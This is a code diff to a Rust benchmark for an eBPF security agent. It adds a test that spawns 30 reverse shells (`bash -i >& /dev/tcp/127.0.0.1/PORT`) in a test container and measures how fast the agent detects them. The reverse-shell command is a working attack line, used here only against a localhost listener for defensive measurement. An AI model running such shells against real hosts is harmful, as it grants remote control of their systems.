@@ -26,6 +26,8 @@
 //!    `localhost/ward-test-debian`), with the aggregation window set to 1 ns so every run is a
 //!    new finding; p50/p99/max from the agent's own measure (kernel exec timestamp → finding
 //!    flushed to the JSON Lines file).
+//!    The same for reverse shells (`bash -i >& /dev/tcp/...` answering `id` to a listener on
+//!    127.0.0.1), which the kernel flags for an immediate wake-up instead of the poll timer.
 //! 4. **Agent RSS** at steady state and its peak (VmHWM).
 
 use std::path::{Path, PathBuf};
@@ -276,6 +278,67 @@ fn exec_round(n: usize, tracer: Option<u32>, pin: Option<usize>) -> (f64, f64, f
         set_affinity(&all);
     }
     (wall, work, traced)
+}
+
+/// `n` reverse shells (`bash -i` over `/dev/tcp`) in `container` against a listener on
+/// 127.0.0.1 that sends `id` and `exit`, under a fresh agent. Returns (shells, findings, p50 s,
+/// p99 s, findings within 100 ms, latencies counted).
+fn reverse_shell_latency(
+    ward: &Path,
+    container: &str,
+    n: usize,
+) -> (usize, f64, f64, f64, f64, f64) {
+    use std::io::{Read, Write};
+    let agent = Agent::start(ward, "[engine]\naggregation_window = \"1ns\"\n");
+    std::thread::sleep(Duration::from_millis(500));
+    for _ in 0..n {
+        let l = std::net::TcpListener::bind("127.0.0.1:0").expect("listener on 127.0.0.1");
+        l.set_nonblocking(true).expect("nonblocking listener");
+        let port = l.local_addr().expect("listener address").port();
+        let st = Command::new("podman")
+            .args(["exec", "-d", container, "bash", "-c"])
+            .arg(format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"))
+            .stdout(Stdio::null())
+            .status()
+            .expect("podman exec");
+        assert!(st.success(), "podman exec failed");
+        let deadline = Instant::now() + Duration::from_secs(10);
+        let mut conn = loop {
+            match l.accept() {
+                Ok((c, _)) => break c,
+                Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
+                    assert!(
+                        Instant::now() < deadline,
+                        "the reverse shell did not connect"
+                    );
+                    std::thread::sleep(Duration::from_millis(5));
+                }
+                Err(e) => panic!("accept: {e}"),
+            }
+        };
+        conn.set_nonblocking(false).expect("blocking connection");
+        conn.set_read_timeout(Some(Duration::from_secs(5)))
+            .expect("read timeout");
+        conn.write_all(b"id\nexit\n").expect("sending id");
+        let mut out = Vec::new();
+        let _ = conn.read_to_end(&mut out);
+        assert!(
+            String::from_utf8_lossy(&out).contains("uid=0(root)"),
+            "the reverse shell ran id: {:?}",
+            String::from_utf8_lossy(&out)
+        );
+    }
+    std::thread::sleep(Duration::from_secs(1));
+    let r = (
+        n,
+        agent.metric("ward_findings_total"),
+        agent.metric("ward_detection_latency_recent_seconds{quantile=\"0.5\"}"),
+        agent.metric("ward_detection_latency_recent_seconds{quantile=\"0.99\"}"),
+        agent.metric("ward_detection_latency_seconds_bucket{le=\"0.1\"}"),
+        agent.metric("ward_detection_latency_seconds_count"),
+    );
+    agent.stop();
+    r
 }
 
 /// The `ward_pause` switch of the (one) running agent's BPF programs.
@@ -543,81 +606,86 @@ fn main() {
         }
     }
 
-    // 1. Exec cost, interleaved rounds.
-    // (label, kind, programs to attach): "ward-stopped=ward_exec,ward_fork" attaches only those.
-    let modes: Vec<(String, &str, Option<String>)> = o
-        .modes
-        .iter()
-        .filter_map(|m| {
-            let (name, attach) = match m.split_once('=') {
-                Some((n, a)) => (n, Some(a.replace('+', ","))),
-                None => (m.as_str(), None),
-            };
-            let label = |base: &str| match &attach {
-                Some(a) => format!("{base} [{a}]"),
-                None => base.to_string(),
-            };
-            match name {
-                "none" => Some(("none".to_string(), "none", None)),
-                "ward" => Some((label("ward agent"), "ward", attach)),
-                "ward-stopped" => Some((label("ward agent, stopped"), "ward-stopped", attach)),
-                "alt" => Some((label("alt agent"), "alt", attach)),
-                "alt-stopped" => Some((label("alt agent, stopped"), "alt-stopped", attach)),
-                "bpftrace" if have_bpftrace => {
-                    Some(("bpftrace execsnoop.bt".to_string(), "bpftrace", None))
+    if o.rounds > 0 {
+        // 1. Exec cost, interleaved rounds.
+        // (label, kind, programs to attach): "ward-stopped=ward_exec,ward_fork" attaches only those.
+        let modes: Vec<(String, &str, Option<String>)> = o
+            .modes
+            .iter()
+            .filter_map(|m| {
+                let (name, attach) = match m.split_once('=') {
+                    Some((n, a)) => (n, Some(a.replace('+', ","))),
+                    None => (m.as_str(), None),
+                };
+                let label = |base: &str| match &attach {
+                    Some(a) => format!("{base} [{a}]"),
+                    None => base.to_string(),
+                };
+                match name {
+                    "none" => Some(("none".to_string(), "none", None)),
+                    "ward" => Some((label("ward agent"), "ward", attach)),
+                    "ward-stopped" => Some((label("ward agent, stopped"), "ward-stopped", attach)),
+                    "alt" => Some((label("alt agent"), "alt", attach)),
+                    "alt-stopped" => Some((label("alt agent, stopped"), "alt-stopped", attach)),
+                    "bpftrace" if have_bpftrace => {
+                        Some(("bpftrace execsnoop.bt".to_string(), "bpftrace", None))
+                    }
+                    "bpftrace" => None,
+                    _ => usage(),
                 }
-                "bpftrace" => None,
-                _ => usage(),
-            }
-        })
-        .collect();
-    if modes.first().map(|m| m.1) != Some("none") {
-        eprintln!("ward-bench-agent: --modes must start with none (the baseline)");
-        std::process::exit(2);
-    }
-    let mut cpu: Vec<Vec<f64>> = vec![Vec::new(); modes.len()];
-    let mut work_cpu: Vec<Vec<f64>> = vec![Vec::new(); modes.len()];
-    let mut tracer_cpu: Vec<Vec<f64>> = vec![Vec::new(); modes.len()];
-    let mut wall: Vec<Vec<f64>> = vec![Vec::new(); modes.len()];
-    // When each run happened (seconds since the first), to interpolate the baseline.
-    let mut at: Vec<Vec<f64>> = vec![Vec::new(); modes.len()];
-    let t_start = Instant::now();
-    for round in 0..o.rounds {
-        for (i, (m, kind, attach)) in modes.iter().enumerate() {
-            let alt = o.alt.as_deref().unwrap_or(&o.ward);
-            let tracer = match *kind {
-                "none" => Tracer::None,
-                "ward" => Tracer::Ward(Agent::start_attaching(&o.ward, &o.toml, attach.as_deref())),
-                "alt" => Tracer::Ward(Agent::start_attaching(alt, &o.alt_toml, attach.as_deref())),
-                "ward-stopped" | "alt-stopped" => {
-                    let a = if *kind == "ward-stopped" {
-                        Agent::start_attaching(&o.ward, &o.toml, attach.as_deref())
-                    } else {
-                        Agent::start_attaching(alt, &o.alt_toml, attach.as_deref())
-                    };
-                    std::thread::sleep(Duration::from_millis(300));
-                    // SAFETY: kill(2) on our child.
-                    unsafe { libc::kill(a.pid() as i32, libc::SIGSTOP) };
-                    Tracer::WardStopped(a)
+            })
+            .collect();
+        if modes.first().map(|m| m.1) != Some("none") {
+            eprintln!("ward-bench-agent: --modes must start with none (the baseline)");
+            std::process::exit(2);
+        }
+        let mut cpu: Vec<Vec<f64>> = vec![Vec::new(); modes.len()];
+        let mut work_cpu: Vec<Vec<f64>> = vec![Vec::new(); modes.len()];
+        let mut tracer_cpu: Vec<Vec<f64>> = vec![Vec::new(); modes.len()];
+        let mut wall: Vec<Vec<f64>> = vec![Vec::new(); modes.len()];
+        // When each run happened (seconds since the first), to interpolate the baseline.
+        let mut at: Vec<Vec<f64>> = vec![Vec::new(); modes.len()];
+        let t_start = Instant::now();
+        for round in 0..o.rounds {
+            for (i, (m, kind, attach)) in modes.iter().enumerate() {
+                let alt = o.alt.as_deref().unwrap_or(&o.ward);
+                let tracer = match *kind {
+                    "none" => Tracer::None,
+                    "ward" => {
+                        Tracer::Ward(Agent::start_attaching(&o.ward, &o.toml, attach.as_deref()))
+                    }
+                    "alt" => {
+                        Tracer::Ward(Agent::start_attaching(alt, &o.alt_toml, attach.as_deref()))
+                    }
+                    "ward-stopped" | "alt-stopped" => {
+                        let a = if *kind == "ward-stopped" {
+                            Agent::start_attaching(&o.ward, &o.toml, attach.as_deref())
+                        } else {
+                            Agent::start_attaching(alt, &o.alt_toml, attach.as_deref())
+                        };
+                        std::thread::sleep(Duration::from_millis(300));
+                        // SAFETY: kill(2) on our child.
+                        unsafe { libc::kill(a.pid() as i32, libc::SIGSTOP) };
+                        Tracer::WardStopped(a)
+                    }
+                    _ => start_bpftrace(),
+                };
+                if !matches!(tracer, Tracer::None) {
+                    // A tracer's start-up (the agent parses the kernel's BTF, reads /proc, loads
+                    // its model and gives that memory back) disturbs the machine for a while after
+                    // it says it is ready; measure the steady state.
+                    std::thread::sleep(o.settle);
                 }
-                _ => start_bpftrace(),
-            };
-            if !matches!(tracer, Tracer::None) {
-                // A tracer's start-up (the agent parses the kernel's BTF, reads /proc, loads
-                // its model and gives that memory back) disturbs the machine for a while after
-                // it says it is ready; measure the steady state.
-                std::thread::sleep(o.settle);
-            }
-            let t_run = t_start.elapsed().as_secs_f64();
-            let (w, work, traced) = exec_round(o.execs, tracer.pid(), o.pin);
-            at[i].push(t_run + w / 2.0);
-            let c = work + traced;
-            work_cpu[i].push(work / o.execs as f64 * 1e6);
-            tracer_cpu[i].push(traced / o.execs as f64 * 1e6);
-            tracer.stop();
-            cpu[i].push(c / o.execs as f64 * 1e6);
-            wall[i].push(w / o.execs as f64 * 1e6);
-            eprintln!(
+                let t_run = t_start.elapsed().as_secs_f64();
+                let (w, work, traced) = exec_round(o.execs, tracer.pid(), o.pin);
+                at[i].push(t_run + w / 2.0);
+                let c = work + traced;
+                work_cpu[i].push(work / o.execs as f64 * 1e6);
+                tracer_cpu[i].push(traced / o.execs as f64 * 1e6);
+                tracer.stop();
+                cpu[i].push(c / o.execs as f64 * 1e6);
+                wall[i].push(w / o.execs as f64 * 1e6);
+                eprintln!(
                 "  round {} {:<22} {:>7.1} us CPU/exec ({:.1} workload + {:.1} tracer) {:>7.1} us wall/exec",
                 round + 1,
                 m,
@@ -626,51 +694,52 @@ fn main() {
                 traced / o.execs as f64 * 1e6,
                 w / o.execs as f64 * 1e6
             );
+            }
         }
-    }
-    // One more baseline run closes the last round, so that every tracer run sits between two.
-    let t_run = t_start.elapsed().as_secs_f64();
-    let (w_end, work_end, _) = exec_round(o.execs, None, o.pin);
-    let base_end = (t_run + w_end / 2.0, work_end / o.execs as f64 * 1e6);
-    // The baseline at time t of round r: linear between that round's baseline run and the next.
-    let (base_at, base_cpu) = (at[0].clone(), cpu[0].clone());
-    let baseline = |r: usize, t: f64| {
-        let (t0, b0) = (base_at[r], base_cpu[r]);
-        let (t1, b1) = if r + 1 < base_cpu.len() {
-            (base_at[r + 1], base_cpu[r + 1])
-        } else {
-            base_end
+        // One more baseline run closes the last round, so that every tracer run sits between two.
+        let t_run = t_start.elapsed().as_secs_f64();
+        let (w_end, work_end, _) = exec_round(o.execs, None, o.pin);
+        let base_end = (t_run + w_end / 2.0, work_end / o.execs as f64 * 1e6);
+        // The baseline at time t of round r: linear between that round's baseline run and the next.
+        let (base_at, base_cpu) = (at[0].clone(), cpu[0].clone());
+        let baseline = |r: usize, t: f64| {
+            let (t0, b0) = (base_at[r], base_cpu[r]);
+            let (t1, b1) = if r + 1 < base_cpu.len() {
+                (base_at[r + 1], base_cpu[r + 1])
+            } else {
+                base_end
+            };
+            if t1 > t0 {
+                b0 + (b1 - b0) * ((t - t0) / (t1 - t0)).clamp(0.0, 1.0)
+            } else {
+                b0
+            }
         };
-        if t1 > t0 {
-            b0 + (b1 - b0) * ((t - t0) / (t1 - t0)).clamp(0.0, 1.0)
-        } else {
-            b0
-        }
-    };
-    println!("\n## exec cost (medians of {} rounds)", o.rounds);
-    println!("Paired: per round, CPU per exec against the no-tracer baseline at that moment (linear between the baseline runs just before and just after it, so that machine drift cancels); the median of those ratios, and in how many rounds the tracer cost more.");
-    println!("| tracer | CPU per exec (workload + tracer) | added (medians) | added (paired median) | rounds higher | workload alone | tracer alone | wall per exec | added |");
-    println!("|---|---|---|---|---|---|---|---|---|");
-    let base_c = median(&mut cpu[0].clone());
-    let base_w = median(&mut wall[0].clone());
-    for (i, (m, _, _)) in modes.iter().enumerate() {
-        let mut paired: Vec<f64> = cpu[i]
-            .iter()
-            .enumerate()
-            .map(|(r, c)| (c / baseline(r, at[i][r]) - 1.0) * 100.0)
-            .collect();
-        let higher = paired.iter().filter(|d| **d > 0.0).count();
-        let pm = median(&mut paired);
-        let c = median(&mut cpu[i]);
-        let w = median(&mut wall[i]);
-        let wk = median(&mut work_cpu[i]);
-        let tr = median(&mut tracer_cpu[i]);
-        println!(
+        println!("\n## exec cost (medians of {} rounds)", o.rounds);
+        println!("Paired: per round, CPU per exec against the no-tracer baseline at that moment (linear between the baseline runs just before and just after it, so that machine drift cancels); the median of those ratios, and in how many rounds the tracer cost more.");
+        println!("| tracer | CPU per exec (workload + tracer) | added (medians) | added (paired median) | rounds higher | workload alone | tracer alone | wall per exec | added |");
+        println!("|---|---|---|---|---|---|---|---|---|");
+        let base_c = median(&mut cpu[0].clone());
+        let base_w = median(&mut wall[0].clone());
+        for (i, (m, _, _)) in modes.iter().enumerate() {
+            let mut paired: Vec<f64> = cpu[i]
+                .iter()
+                .enumerate()
+                .map(|(r, c)| (c / baseline(r, at[i][r]) - 1.0) * 100.0)
+                .collect();
+            let higher = paired.iter().filter(|d| **d > 0.0).count();
+            let pm = median(&mut paired);
+            let c = median(&mut cpu[i]);
+            let w = median(&mut wall[i]);
+            let wk = median(&mut work_cpu[i]);
+            let tr = median(&mut tracer_cpu[i]);
+            println!(
             "| {m} | {c:.1} us | {:+.1}% | {pm:+.1}% | {higher}/{} | {wk:.1} us | {tr:.1} us | {w:.1} us | {:+.1}% |",
             (c - base_c) / base_c * 100.0,
             o.rounds,
             (w - base_w) / base_w * 100.0
         );
+        }
     }
 
     if o.cost_only {
@@ -775,11 +844,12 @@ fn main() {
     let count = agent.metric("ward_detection_latency_seconds_count");
     let rss = status_kb(agent.pid(), "VmRSS:");
     let hwm = status_kb(agent.pid(), "VmHWM:");
+    agent.stop();
+    let shells = reverse_shell_latency(&o.ward, &name, 30);
     let _ = Command::new("podman")
         .args(["rm", "-f", "-t", "0", &name])
         .stdout(Stdio::null())
         .status();
-    agent.stop();
     println!(
         "\n## exec -> finding written ({} compiler runs in a container in {loop_secs:.1} s, aggregation window 1 ns)",
         o.findings
@@ -792,6 +862,20 @@ fn main() {
         p99 * 1e3,
         under_100,
         count
+    );
+    println!(
+        "\n## exec -> finding written, reverse shells ({} `bash -i >& /dev/tcp/127.0.0.1/PORT` in the container, each answering `id`; a socket on stdio wakes the agent at once)",
+        shells.0
+    );
+    println!("| findings | p50 | p99 | <= 100 ms |");
+    println!("|---|---|---|---|");
+    println!(
+        "| {:.0} | {:.1} ms | {:.1} ms | {:.0}/{:.0} |",
+        shells.1,
+        shells.2 * 1e3,
+        shells.3 * 1e3,
+        shells.4,
+        shells.5
     );
     println!("\n## agent memory");
     println!("| after the exec flood: VmRSS | VmHWM | after the latency run: VmRSS | VmHWM |");
